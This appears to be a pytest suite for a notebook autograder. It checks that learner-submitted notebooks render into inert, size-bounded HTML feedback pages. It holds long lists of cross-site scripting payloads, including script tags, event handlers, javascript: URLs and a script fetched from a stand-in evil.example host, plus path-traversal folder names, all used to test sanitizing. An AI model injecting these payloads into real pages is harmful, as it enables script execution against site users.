"""Pages: they say what the author wrote and the learner did, and nothing in them is alive."""

import base64
import json
import re
import zlib
from dataclasses import replace
from fractions import Fraction
from html.parser import HTMLParser
from pathlib import Path

import pytest

from grader.book import projection as gradebook
from grader.book import records
from grader.errors import SubmissionError
from grader.exercises import folder as exercises
from grader.exercises import notebook
from grader.pages import feedback, formgrader, index, keep, render
from grader.sandbox.limits import Ending
from grader.score.attempt import CellReport, CellStatus
from grader.score.points import points_text
from grader.submissions import align as submission
from grader.submissions import inbox, pictures, upload
from grader.submissions.pieces import Aligned
from grader.text import LONGEST
from tests.builders import RESULTS, an_attempt, small
from tests.commands import nbgrader


@pytest.fixture
def course(tmp_path) -> Path:
    small(tmp_path)
    return tmp_path


@pytest.fixture
def exercise(course):
    return exercises.find(course, "heights")


def aligned(*cells: object) -> Aligned:
    return Aligned(notebook.node({"metadata": {}, "cells": list(cells)}), (), {})


def code(source: object = "x = 1", *outputs: object) -> dict:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": list(outputs)}


def markdown(source: object) -> dict:
    return {"cell_type": "markdown", "source": source, "metadata": {}}


def shown(**data: object) -> dict:
    renamed = {key.replace("_", "/", 1): value for key, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": renamed}


def a_png(width: int = 2, height: int = 2) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        whole = name + data
        return len(data).to_bytes(4, "big") + whole + zlib.crc32(whole).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    lines = (b"\0" + b"\xff\0\0" * width) * height
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(lines)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in chunks)


PNG = base64.b64encode(a_png()).decode()


class Page(HTMLParser):
    """What a browser would find: tags with attributes, and the text by tag."""

    VOID = frozenset({"meta", "br", "hr", "img"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.ids: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.ids += [value for name, value in attrs if name == "id"]
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, tag

    def handle_data(self, data):
        if self.open and self.open[-1] != "style":
            self.text += data


TAGS = set(
    """html head meta title style body main footer section h1 h2 h3 h4 h5 h6 p span ul ol li pre
    code div a img bdi em strong table thead tbody tr th td br hr b i blockquote details summary dl
    dt dd del sup sub kbd""".split()  # noqa: SIM905 - a list of fifty names is no easier to read
)
ATTRIBUTES = {
    "html": {"lang"}, "meta": {"charset", "http-equiv", "content", "name"}, "img": {"alt", "src"},
    "a": {"href", "rel"}, "td": {"colspan", "rowspan", "class"},
    "th": {"colspan", "rowspan", "scope"}, "section": {"id"}, "p": {"class"}, "ul": {"class"},
    "div": {"class", "id", "tabindex", "role", "aria-label"}, "li": {"class"}, "main": {"class"},
    "span": {"class", "style", "role", "aria-label", "aria-hidden"},
}  # fmt: skip


def assert_inert(html: str) -> Page:
    page = Page(html)
    for tag, attributes in page.tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), (tag, attributes)
        for name, value in attributes.items():
            if name == "href":
                assert str(value).startswith(("#", "http://", "https://", "mailto:")), value
            if name == "src":
                kinds = ("data:image/png;base64,iVBOR", "data:image/jpeg;base64,/9j/")
                assert str(value).startswith(kinds), value
            if name == "style":
                assert tag == "span" and str(value).startswith("width: "), value
    assert sum(tag == "style" for tag, _ in page.tags) == 1
    assert len(set(page.ids)) == len(page.ids)
    policies = [a["content"] for tag, a in page.tags if a.get("http-equiv")]
    assert policies == [render.POLICY]
    return page


def test_a_page_says_score_behaviour_and_detail(exercise):
    html = feedback.page(an_attempt(), exercise, aligned(code()))

    page = assert_inert(html)
    words = " ".join(page.text.split())
    assert "Heights <and> notes" in words
    assert "6.67 of 15 points" in words
    assert "5 of these points wait for a person" in words
    assert "2 of 4 tests passed" in words
    assert "✓ A number is read. passed (visible test)" in words
    assert "Half is enough. passed, for 50% of its points (hidden test)" in words
    assert "✗ A missing one stays so. not passed (hidden test)" in words
    assert "ValueError: could not convert <b>x</b>" in words
    assert "It ends. not passed: it took too long" in words


def test_a_page_keeps_names_of_hidden_tests_and_seconds_to_itself(exercise):
    html = feedback.page(an_attempt(), exercise, aligned(code()))

    assert not any(secret in html for secret in ("test_none", "test_slow", "9.87", "1234.5"))


def test_a_page_shows_the_notebook_as_it_was_handed_in(course, exercise):
    released = notebook.release(exercise)
    released.cells[2].source = "def parse_height(text):\n    return 7 < 8"
    data = notebook.dumps(released)
    matched = submission.align(upload.parse(data), released, exercise)

    page = assert_inert(feedback.page(an_attempt(), exercise, matched))

    assert "return 7 < 8" in page.text
    assert "Write parse_height." in page.text
    assert ("a", {"href": "#task-parse_height"}) in page.tags
    assert {"task-parse_height", "task-note", "cell-1", "cell-5"} <= set(page.ids)


def test_repairs_stopped_cells_and_the_ending_are_told(exercise):
    attempt = an_attempt(
        ending=Ending.MEMORY,
        note="cell 2: used more than 1024 MB",
        repairs=("The check of parse_height was deleted; it was put back.",),
        cells=(
            CellReport(0, CellStatus.ERROR, "ZeroDivisionError: <i>"),
            CellReport(1, CellStatus.OK),
        ),
    )

    page = assert_inert(feedback.page(attempt, exercise, aligned(code(), code())))
    words = " ".join(page.text.split())

    assert "Cell 2: used more than 1024 MB" in words
    assert "What we repaired" in words and "it was put back" in words
    assert "Cell 1 raised an error ZeroDivisionError: <i>" in words
    assert "Cell 1: raised an error" in words
    assert words.count("Cell 2: ") == 1


def test_a_file_that_could_not_be_read_still_gets_a_page(course, exercise):
    attempt = an_attempt(ending=Ending.UNREADABLE, note="The notebook file is empty: save it.")

    path = keep.write(course, attempt, exercise, None)

    page = assert_inert(path.read_text())
    assert "The notebook file is empty" in page.text
    assert "Your notebook" not in page.text


def test_a_result_without_a_sandbox_says_so(exercise):
    assert "without a sandbox" in feedback.page(an_attempt(isolation="none"), exercise, None)
    assert "without a sandbox" not in feedback.page(an_attempt(), exercise, None)


SCRIPT = "<script>document.title='pwned'</script>"
HOSTILE_HTML = [
    SCRIPT,
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='https://evil.example/track.png'>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)><button>go</button>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio><source srcset=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p id='task-parse_height' class='notice' name='x' title='<h1>'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<table background=x><td background='javascript:alert(1)'>x",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "</pre></div></main></body></html><script>alert(1)</script>",
    "<h1><h2>x</h1></h2><h7>",
    "<table></table></table></div></div>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=x><isindex>",
    "<plaintext>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}{% include 'style.css' %}",
]
HOSTILE_MARKDOWN = [
    *HOSTILE_HTML,
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](attachment:gone.png)",
    '![x" onerror="alert(1)](x)',
    "[a]: javascript:alert(1)\n\n[a]",
    "```mermaid\n<script>alert(1)</script>\n```",
    '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "$\\href{javascript:alert(1)}{x}$ $$\\require{html}<img src=x onerror=alert(1)>$$",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
    "`<script>`<script>alert(1)</script>`",
    "> " * 200 + "x",
    "[" * 3000,
]


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_nothing_active_comes_through_markdown(exercise, source):
    page = assert_inert(feedback.page(an_attempt(), exercise, aligned(markdown(source))))

    assert "49" not in page.text


@pytest.mark.parametrize("source", HOSTILE_HTML)
def test_nothing_active_comes_through_any_output(exercise, source):
    outputs = [
        shown(text_html=source),
        shown(text_html=[source, source]),
        shown(text_plain=source),
        {"output_type": "stream", "name": source, "text": source},
        {"output_type": "error", "ename": source, "evalue": source, "traceback": [source]},
        {"output_type": "error", "ename": source, "evalue": source},
    ]

    assert_inert(feedback.page(an_attempt(), exercise, aligned(code(source, *outputs))))


@pytest.mark.parametrize("source", HOSTILE_HTML)
def test_nothing_active_comes_through_what_the_attempt_says(exercise, source):
    test = replace(RESULTS[2], name=source, detail=source)
    attempt = an_attempt(
        learner=source,
        note=source,
        repairs=(source,),
        cells=(CellReport(0, source, source, source),),
        points=Fraction(0),
        results=(test,),
    )

    assert_inert(feedback.page(attempt, exercise, aligned(code())))


def test_harmless_html_of_a_learner_is_kept(exercise):
    table = "<table border=1 class=dataframe><thead><tr><th>a</th></tr></thead></table>"
    text = "**bold** and [a link](https://docs.python.org/3/) and <sup>2</sup>"

    cells = aligned(code("x", shown(text_html=table)), markdown(text))

    page = assert_inert(feedback.page(an_attempt(), exercise, cells))

    link = {"href": "https://docs.python.org/3/", "rel": "noopener noreferrer nofollow"}
    assert ("a", link) in page.tags
    assert {"strong", "sup", "table", "th"} <= {tag for tag, _ in page.tags}


def test_headings_of_a_learner_stand_below_the_pages_own(exercise):
    cells = aligned(markdown("# One\n\n###### Six"))

    page = assert_inert(feedback.page(an_attempt(), exercise, cells))

    assert [tag for tag, _ in page.tags if tag == "h1"] == ["h1"]
    assert "h3" in {tag for tag, _ in page.tags} and "h6" in {tag for tag, _ in page.tags}


@pytest.mark.parametrize(
    "mime",
    ["image/svg+xml", "application/javascript", "text/latex", "image/jpeg", "application/pdf",
     "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "text/markdown"],
)  # fmt: skip
def test_other_kinds_of_output_are_left_out(exercise, mime):
    output = {"output_type": "display_data", "data": {mime: SCRIPT}, "metadata": {}}

    page = assert_inert(feedback.page(an_attempt(), exercise, aligned(code("x", output))))

    assert "(an output that cannot be shown here)" in page.text
    assert "pwned" not in page.text


def test_a_picture_that_is_png_is_shown(exercise):
    cells = aligned(code("x", shown(image_png=PNG)))

    page = assert_inert(feedback.page(an_attempt(), exercise, cells))

    source = f"data:image/png;base64,{PNG}"
    pictures = [attributes for tag, attributes in page.tags if tag == "img"]
    assert pictures == [{"alt": "Picture drawn by this cell", "src": source}]


def handed_in(*outputs: dict) -> Aligned:
    cells = [{**code("x", *outputs), "id": "x", "execution_count": 1}]
    raw = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    return Aligned(upload.parse(json.dumps(raw).encode()), (), {})


@pytest.mark.parametrize(("more", "count"), [(0, 1), (1, 0)])
def test_a_picture_is_shown_whenever_it_is_kept(exercise, more, count):
    spaces = " " * (pictures.MAX_IMAGE + more - len(PNG))  # newlines, in notebooks
    notebook = handed_in(shown(image_png=PNG + spaces))

    page = assert_inert(feedback.page(an_attempt(), exercise, notebook))

    kept = "image/png" in notebook.notebook.cells[0].outputs[0].data
    assert [tag for tag, _ in page.tags].count("img") == kept == count


@pytest.mark.parametrize("more", [0, 1, 10_000])
def test_of_a_text_that_is_cut_twice_is_said_how_much_is_missing(exercise, more):
    whole = "x" * (LONGEST + more)
    notebook = handed_in({"output_type": "stream", "name": "stdout", "text": whole})

    page = assert_inert(feedback.page(an_attempt(), exercise, notebook))

    left = re.search(r"(x{1000,})(?:\n… \(([\d,]+) more characters were left out\))?", page.text)
    assert left and len(left[1]) + int((left[2] or "0").replace(",", "")) == len(whole)
    assert bool(left[2]) == (more > 0)


def damaged() -> bytes:
    raw = bytearray(a_png())
    raw[45] ^= 1
    return bytes(raw)


@pytest.mark.parametrize(
    "raw",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"\xff\xd8\xff\xe0 JPEG",
        b"\x89PNG\r\n\x1a\n",
        a_png()[:-12],
        damaged(),
        a_png().replace(b"\0\0\0\2\0\0\0\2", b"\0\1\0\0\0\1\0\0"),
        a_png() + b"<script>",
        a_png(1400, 1400)[:-20],
    ],
)
def test_what_is_no_whole_png_is_not_shown_as_one(exercise, raw):
    output = shown(image_png=base64.b64encode(raw).decode())

    page = assert_inert(feedback.page(an_attempt(), exercise, aligned(code("x", output))))

    assert not [tag for tag, _ in page.tags if tag == "img"]


@pytest.mark.parametrize("text", ['" onerror="x', PNG + '"><script>', "iVBOR…", PNG + "=", ""])
def test_base64_that_ends_its_attribute_is_no_picture(text):
    assert pictures.png(text) == ""


def test_pictures_of_the_plotting_library_are_accepted():
    from io import BytesIO

    from matplotlib.figure import Figure

    figure, file = Figure(), BytesIO()
    figure.subplots().plot([1, 2, 3])
    figure.savefig(file, format="png")

    assert pictures.png(base64.b64encode(file.getvalue()).decode())


@pytest.mark.parametrize(
    "cells",
    [
        None,
        {},
        "cells",
        [None, 1, "x", [], [[]], {}],
        [{"cell_type": ["code"], "source": {"a": 1}, "outputs": {"a": 1}}],
        [{"cell_type": "code", "source": [1, None, "x"], "outputs": [None, 1, "x", [], {}]}],
        [code("x", {"output_type": {}, "data": []}, {"output_type": "display_data", "data": None})],
        [code("x", {"output_type": "display_data", "data": {"text/html": 5, "image/png": {}}})],
        [code("x", {"output_type": "error", "traceback": [None, 5, ["a", 1]], "ename": []})],
        [{"cell_type": "code", "metadata": {"nbgrader": {"grade": True, "grade_id": 5}}}],
        [{"cell_type": "markdown", "metadata": [], "source": None, "attachments": 5}],
        [markdown("half \ud800 character \x00 \x1b[31m")],
        [code("'\ud800\x00'", {"output_type": "stream", "text": "\x1b[31mred\ud800\x00\x85"})],
        [{"cell_type": "raw", "source": SCRIPT, "metadata": {"raw_mimetype": "text/html"}}],
    ],
)  # fmt: skip
def test_no_structure_of_a_notebook_stops_the_page(course, exercise, cells):
    odd = Aligned(notebook.node({"cells": cells, "metadata": {"widgets": SCRIPT}}), (), {})

    path = keep.write(course, an_attempt(), exercise, odd)

    assert_inert(path.read_text(encoding="utf-8"))
    json.loads((course / "autograded/ada/4-cleaning/heights.ipynb").read_text(encoding="utf-8"))


def test_a_huge_output_is_cut_and_says_how_much_is_missing(exercise):
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}

    html = feedback.page(an_attempt(), exercise, aligned(code("x", output)))

    left = re.search(r"(x+)\n… \(([\d,]+) more characters were left out\)", html)
    assert left and len(left[1]) + int(left[2].replace(",", "")) == 5_000_000
    assert len(html) < 60_000


def test_a_huge_notebook_makes_a_page_of_bounded_size(exercise):
    outputs = [{"output_type": "stream", "name": "stdout", "text": "<" * 20_000}] * 100

    html = feedback.page(an_attempt(), exercise, aligned(*[code("x", *outputs)] * 20))

    assert "The rest of the notebook is left out" in html
    assert len(html) < feedback.MAX_PAGE + 200_000
    assert_inert(html)


@pytest.mark.parametrize(
    "cell", [markdown("\\\\[" * 2600), code("a@" * 10_000), markdown("[" * 7999)]
)
def test_formatting_is_bounded_so_that_no_notebook_holds_up_the_class(exercise, cell):
    html = feedback.page(an_attempt(), exercise, aligned(*[cell] * 60))

    formatted = html.count("<code>") + html.count("\n<p>")
    assert 0 < formatted <= 2 * feedback.MAX_FORMATTED / len(cell["source"])
    assert_inert(html)


@pytest.mark.parametrize(
    ("points", "shown"),
    [
        (Fraction(10), "10"), (Fraction(20, 3), "6.67"), (Fraction(13, 2), "6.5"), (100, "100"),
        (Fraction(2999, 300), "9.99"), (Fraction(1, 1000), "0"), (Fraction(1, 3), "0.33"), (0, "0"),
    ],
)  # fmt: skip
def test_points_have_two_decimals_at_most_and_are_not_rounded_up_to_full_marks(points, shown):
    assert points_text(points) == shown


@pytest.mark.parametrize(
    "name", ["", ".", "..", "../ben", "a/b", "a\\b", "a\x00b", "a\nb\x1b", "/etc"]
)
@pytest.mark.parametrize("part", ["learner", "assignment", "exercise"])
def test_no_name_leads_out_of_the_feedback_folder(course, exercise, name, part):
    with pytest.raises(SubmissionError, match="cannot be the name of a folder"):
        keep.write(course, an_attempt(**{part: name}), exercise, aligned())
    with pytest.raises(SubmissionError, match="cannot be the name of a folder"):
        index.write_index(course, [an_attempt(**{part: name})])

    assert sorted(path.name for path in course.iterdir()) == ["exercises"]


def test_pages_replace_each_other_whole_and_leave_nothing_behind(course, exercise):
    keep.write(course, an_attempt(), exercise, aligned(code("first = 1")))
    path = keep.write(course, an_attempt(), exercise, aligned(code("second = 2")))

    assert "second" in path.read_text() and "first" not in path.read_text()
    assert [entry.name for entry in path.parent.iterdir()] == ["heights.html"]
    assert path == course / "feedback" / "ada" / "4-cleaning" / "heights.html"


def test_the_receipts_that_nbgrader_releases_feedback_by_are_beside_the_page(course, exercise):
    folder = course / "submitted" / "ada" / "4-cleaning"
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text("2026-02-02 15:58:23 UTC")
    (folder / "submission_secret.txt").symlink_to("/etc/hostname")

    path = keep.write(course, an_attempt(), exercise, aligned())

    assert (path.parent / "timestamp.txt").read_text() == "2026-02-02 15:58:23 UTC"
    assert not (path.parent / "submission_secret.txt").exists()


def test_the_index_lists_the_class_and_escapes_every_name(course):
    attempts = [an_attempt(learner=name) for name in ("zoe", "ada & <b>", "o'neil%2e")]

    path = index.write_index(course, attempts)

    html = path.read_text()
    page = Page(html)
    links = [attributes["href"] for tag, attributes in page.tags if tag == "a"]
    assert links == [
        "ada%20%26%20%3Cb%3E/4-cleaning/heights.html",
        "o%27neil%252e/4-cleaning/heights.html",
        "zoe/4-cleaning/heights.html",
    ]
    assert "ada & <b>" in page.text and "6.67 of 15*" in page.text


def test_the_index_of_a_large_class_is_written(course):
    attempts = (
        an_attempt(learner=f"l{n:04}", exercise=f"e{m}") for n in range(1000) for m in range(10)
    )

    html = index.write_index(course, attempts).read_text()

    assert html.count("<a href=") == 10_000


# nbgrader ----------------------------------------------------------------------------------------


def test_check_cells_hold_the_results_and_nbgraders_metadata(course, exercise):
    released = notebook.release(exercise)
    matched = submission.align(upload.parse(notebook.dumps(released)), released, exercise)

    keep.write(course, an_attempt(), exercise, matched)

    made = json.loads((course / "autograded/ada/4-cleaning/heights.ipynb").read_text())
    told = [cell["metadata"]["nbgrader"] for cell in made["cells"]]
    assert told == [cell.metadata.nbgrader for cell in released.cells]
    by_id = {cell["metadata"]["nbgrader"]["grade_id"]: cell for cell in made["cells"]}
    text = "".join(by_id["parse_height-points"]["outputs"][0]["text"])
    assert "✓ A number is read. (passed)" in text
    assert "✗ A missing one stays so. (not passed)\n    ValueError: could not convert" in text


def test_markup_in_what_nbgrader_renders_is_broken_but_reads_the_same(exercise):
    text = f"{SCRIPT} ![x](attachment:x.png) $\\href{{javascript:1}}{{x}}$ a < b"

    raw = {**markdown(text), "cell_type": "raw"}

    made = formgrader.autograded(an_attempt(), aligned(markdown(text), raw))

    assert [cell.cell_type for cell in made.cells] == ["markdown", "markdown"]
    for cell in made.cells:
        assert cell.source.replace("\u2060", "") == text
        assert "<script" not in cell.source and "</script" not in cell.source
        assert "attachment:" not in cell.source and "\\href" not in cell.source


@pytest.mark.slow
def test_nbgrader_generate_feedback_works_on_it_and_shows_nothing_active(course, exercise):
    url = f"sqlite:///{course / 'gradebook.db'}"
    gradebook.prepare(records.open(url), [exercise])
    gradebook.store(records.open(url), [an_attempt()], [exercise], inbox.times(course))
    released = notebook.release(exercise)
    released.cells[4].source = f"My note. {SCRIPT} ![x](attachment:gone.png)"
    released.cells[2].source = f"def parse_height(text):\n    return '{SCRIPT}'"
    released.cells[2].outputs = [
        notebook.node({"output_type": "stream", "name": "stdout", "text": SCRIPT}),
        notebook.node(shown(image_png=PNG, text_html=SCRIPT)),
    ]
    matched = submission.align(upload.parse(notebook.dumps(released)), released, exercise)
    keep.write(course, an_attempt(), exercise, matched)
    (course / "nbgrader_config.py").write_text("c = get_config()\n")

    nbgrader(course, "generate_feedback", "4-cleaning", "--force")

    html = (course / "feedback" / "ada" / "4-cleaning" / "heights.html").read_text()
    assert "(Score: 6.67 / 15.0)" in html
    assert "A missing one stays so. (not passed)" in html
    assert "not yet: A missing one stays so." in html
    assert "My note." in html and PNG in html
    assert "<script>document.title" not in html
